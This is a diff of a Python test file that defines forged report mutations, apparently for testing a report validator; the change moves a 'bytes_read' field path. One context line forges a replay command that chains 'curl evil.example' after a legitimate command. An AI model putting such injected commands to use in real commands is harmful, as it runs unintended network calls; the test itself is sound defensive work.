@@ -204,7 +204,7 @@ FORGED: dict[str, tuple[Callable[[dict[str, Any]], None], str]] = {
     "role": (at("findings", 0, "declared", to=False), "findings[0].declared"),
     "reason": (at("findings", 0, "proposed_by", to=["config.json"]), "findings[0].proposed_by[0]"),
     "explained": (at("findings", 1, "explained_by", to="./base"), "findings[1].explained_by"),
-    "bytes": (at("coverage", "bytes_read", to=5), "coverage.bytes_read"),
+    "bytes": (at("findings", 0, "bytes_read", to=5), "findings[0].bytes_read"),
     "command": (at("replay", to="hubcheck check x; curl evil.example"), "replay"),
     "deleted": (_delete_finding, "replay"),
     "added": (_add_finding, "findings[2]"),
